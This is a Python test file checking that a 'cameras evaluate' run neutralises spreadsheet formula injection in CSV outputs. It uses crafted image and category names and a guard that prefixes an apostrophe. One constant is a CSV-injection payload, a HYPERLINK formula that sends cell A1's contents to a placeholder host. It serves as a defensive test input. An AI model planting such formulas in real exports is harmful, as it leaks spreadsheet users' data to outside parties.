"""Issue 21 §2: file and class names that a spreadsheet would run as formulas, through a real ``cameras evaluate``.

Photos named ``=1+1.jpg``, ``@SUM(1).jpg``, ``+cmd.jpg``, ``-x.jpg`` and a COCO category ``=HYPERLINK(...)`` are
written by the one CSV writer with a leading ``'`` (OWASP), numbers stay numbers, and every reader of the run
(``cameras report``, its thumbnails, :func:`cameras.runs.read_map`) gets the names back as they are on disk.
"""

from __future__ import annotations

import csv
import functools
import json
import re
from pathlib import Path

import pytest

from cameras.cli.main import main
from cameras.io import csv_cell, csv_text, write_csv
from cameras.models import LoadedModel, Preprocess
from cameras.report.dataset import _thumb_name
from cameras.runs import read_map, read_map_index

from ..datasets.fixtures import make_coco
from ..engine.nets import TinyCNN
from .fakes import fake_registry

NAMES = ["=1+1.jpg", "@SUM(1).jpg", "+cmd.jpg", "-x.jpg"]
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click me")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


@functools.cache
def _tiny80() -> LoadedModel:
    net = TinyCNN(classes=80)
    net.cameras_default_layer = "features"  # type: ignore[assignment]
    return LoadedModel("tiny80", net, "features", Preprocess(size=32), [f"class {i}" for i in range(80)])


def _live_formulas(path: Path) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with a formula character and not a plain number."""
    with open(path, newline="", encoding="utf-8") as f:
        cells = [c for row in csv.reader(f) for c in row]
    bad = []
    for c in cells:
        if c.startswith(STARTS):
            try:
                float(c)
            except ValueError:
                bad.append(c)
    return bad


def test_names_that_look_like_formulas_are_text_in_the_csvs_and_names_on_the_page(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    fake_registry(monkeypatch, {"tiny80": _tiny80})
    coco = make_coco(tmp_path / "coco")
    ann = coco.root / "annotations" / "instances_val2014.json"
    data = json.loads(ann.read_text())
    for im, name in zip(data["images"], NAMES):  # rename the four photos on disk and in the annotations
        (coco.root / "val2014" / im["file_name"]).rename(coco.root / "val2014" / name)
        im["file_name"] = name
    data["annotations"].append({"id": 6, "image_id": 99, "category_id": coco.category_ids[0], "bbox": [1, 1, 20, 20]})
    data["images"].append({"id": 5, "file_name": "=gone.jpg", "height": 40, "width": 40})  # missing: skipped
    data["annotations"].append({"id": 7, "image_id": 5, "category_id": coco.category_ids[0], "bbox": [1, 1, 9, 9]})
    for cat in data["categories"]:
        if cat["id"] == coco.category_ids[0]:
            cat["name"] = FORMULA
    ann.write_text(json.dumps(data))
    out = tmp_path / "out"
    argv = ["evaluate", "--dataset", "coco", "--root", str(coco.root), "--model", "tiny80", "--out", str(out)]
    opts = ["--methods", "gradcam", "--metrics", "pointing", "energy", "insertion", "--steps", "4"]
    code = main([*argv, *opts, "--save-maps", "--no-progress", "--workers", "0", "--resolutions", "1.0"])
    captured = capsys.readouterr()
    assert code == 1, captured.err  # =gone.jpg is missing; the others are scored
    assert "=gone.jpg" in captured.err

    # no live formula in any CSV of the run; the names are there, neutralised
    for name in ("per_image.csv", "summary.csv", "skipped.csv", "pointing_table.csv", "maps/index.csv"):
        assert _live_formulas(out / name) == [], name
    with open(out / "per_image.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert {r["image"] for r in rows} == {"'" + n for n in NAMES}
    assert {r["class_name"] for r in rows if r["class"] == "0"} == {"'" + FORMULA}
    for r in rows:  # numbers stay numbers
        for k in ("pointing", "energy", "insertion"):
            float(r[k])
    with open(out / "skipped.csv", newline="") as f:
        assert [r["image"] for r in csv.DictReader(f)] == ["'=gone.jpg"]
    with open(out / "pointing_table.csv", newline="") as f:
        assert "'" + FORMULA in [r["class_name"] for r in csv.DictReader(f)]

    # the readers give the names back: the saved maps, the page and its thumbnails (found by the photo's name)
    assert {r["image"] for r in read_map_index(out)} == set(NAMES)
    assert read_map(out, "=1+1.jpg", 0, "gradcam").ndim == 2
    page = (out / "report.html").read_text()
    for name in NAMES:
        assert name in page
        assert (out / "report_files" / _thumb_name("p", name)).is_file(), name
    assert not re.search(r"(&#x27;|&#39;|')(=1\+1|@SUM|\+cmd|-x\.jpg)", page)


def test_the_guard_is_reversible_and_leaves_numbers_alone(tmp_path: Path) -> None:
    texts = ["=1+1", "+cmd", "-x", "@SUM(1)", "\tx", "\rx", "'=x", "''-y", "'plain", "plain", "", "-", "'"]
    numbers = ["-0.5", "+3", "1e-05", "-1E+3", "nan", "-inf", "inf", ".5", "-7"]
    for t in texts + numbers:
        assert csv_text(csv_cell(t)) == t, t
    for t in numbers:
        assert csv_cell(t) == t, t
    for v in (-1, -2.5, float("nan"), None, True):
        assert csv_cell(v) is v
    write_csv(tmp_path / "t.csv", [[t, -1.5] for t in texts + numbers], header=["-name", "value"])
    assert _live_formulas(tmp_path / "t.csv") == []
    with open(tmp_path / "t.csv", newline="") as f:
        back = [[csv_text(c) for c in row] for row in csv.reader(f)]
    assert back == [["-name", "value"], *([t, "-1.5"] for t in texts + numbers)]
